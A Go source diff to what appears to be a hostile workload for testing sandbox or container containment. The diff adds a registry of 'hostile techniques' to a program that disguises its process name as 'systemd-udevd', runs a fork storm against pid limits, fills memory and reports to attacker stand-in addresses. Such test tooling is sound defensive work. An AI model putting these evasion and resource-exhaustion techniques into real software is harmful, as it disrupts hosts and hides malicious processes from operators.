@@ -27,6 +27,10 @@ type config struct {
 	evil     string        // the attacker's IPv4 address
 	evil6    string        // and IPv6
 	dns      string        // a resolver outside, host:port
+	memory   int64         // bytes that a technique may fill
+
+	technique string // one of the registry, or empty: everything at once
+	role      string // of a child process of the technique
 }
 
 func parse(args []string) (config, error) {
@@ -43,11 +47,35 @@ func parse(args []string) (config, error) {
 	fs.StringVar(&c.evil, "evil", "203.0.113.7", "the attacker's IPv4 address")
 	fs.StringVar(&c.evil6, "evil6", "2001:db8::7", "the attacker's IPv6 address")
 	fs.StringVar(&c.dns, "dns", "203.0.113.2:53", "a resolver outside")
+	fs.Int64Var(&c.memory, "memory", 64<<20, "bytes that a technique may fill")
+	fs.StringVar(&c.technique, "technique", "", "one technique of `hostile techniques` beside ticks and token; empty: everything at once")
+	fs.StringVar(&c.role, "role", "", "of a child process of the technique")
 	err := fs.Parse(args)
 	if err == nil && (c.every <= 0 || c.uses <= 0) {
 		err = fmt.Errorf("-every and -uses must be above 0")
 	}
+	if c.technique == "" {
+		return c, err
+	}
+	t, ok := registry[c.technique]
+	if err == nil && !ok {
+		err = fmt.Errorf("no technique is called %q: `hostile techniques` lists them", c.technique)
+	}
+	if c.parts = t.parts; c.parts == "" {
+		c.parts = "ticks,token"
+	}
+	if t.tune != nil {
+		t.tune(&c)
+	}
 	return c, err
+}
+
+// args are the flags that a child process needs to be told.
+func (c config) args() []string {
+	return []string{
+		"-technique", c.technique, "-role", c.role, "-tag", c.tag, "-ticks", c.ticks, "-api", c.api, "-evil", c.evil,
+		"-evil6", c.evil6, "-dns", c.dns, "-memory", fmt.Sprint(c.memory),
+	}
 }
 
 func (c config) does(part string) bool {
@@ -113,19 +141,40 @@ func core(args []string) error {
 	os.WriteFile("/proc/self/comm", []byte("systemd-udevd"), 0o600) // best effort
 	// At the pids limit the Go runtime would die for want of a thread: have them all beforehand.
 	warmThreads(12)
-	var refused atomic.Int64 // EAGAIN seen by the storm
-	for part, run := range map[string]func(config, *atomic.Int64){
+	seen := &counts{}
+	for part, run := range map[string]func(config, *counts){
 		"ticks": sendTicks, "bulk": sendBulk, "token": useToken, "bypass": hammer, "storm": startStorm,
 	} {
 		if c.does(part) {
-			go run(c, &refused)
+			go run(c, seen)
 		}
 	}
-	select {}
+	if c.technique != "" {
+		go startTechnique(c, seen)
+	}
+	forever()
+	return nil
+}
+
+// counts are what the storm or a technique has told the beacon.
+type counts struct {
+	work    atomic.Int64 // children of the storm, or whatever the technique counts
+	refused atomic.Int64 // EAGAIN seen by the storm, or what the technique was refused
+}
+
+// follow reads "WORK REFUSED" lines until the writer ends.
+func (n *counts) follow(r io.Reader) {
+	for sc := bufio.NewScanner(r); sc.Scan(); {
+		var work, refused int64
+		if _, err := fmt.Sscan(sc.Text(), &work, &refused); err == nil {
+			n.work.Store(work)
+			n.refused.Store(refused)
+		}
+	}
 }
 
 // startStorm runs the storm in a process of its own, whose few pages make forking cheap.
-func startStorm(c config, refused *atomic.Int64) {
+func startStorm(c config, seen *counts) {
 	self, err := os.Executable()
 	if err != nil {
 		return
@@ -138,12 +187,7 @@ func startStorm(c config, refused *atomic.Int64) {
 			err = cmd.Start()
 		}
 		if err == nil {
-			for sc := bufio.NewScanner(out); sc.Scan(); {
-				var children, again int64
-				if _, err := fmt.Sscan(sc.Text(), &children, &again); err == nil {
-					refused.Store(again)
-				}
-			}
+			seen.follow(out)
 			cmd.Wait() // it ended, start another
 		}
 		time.Sleep(50 * time.Millisecond)
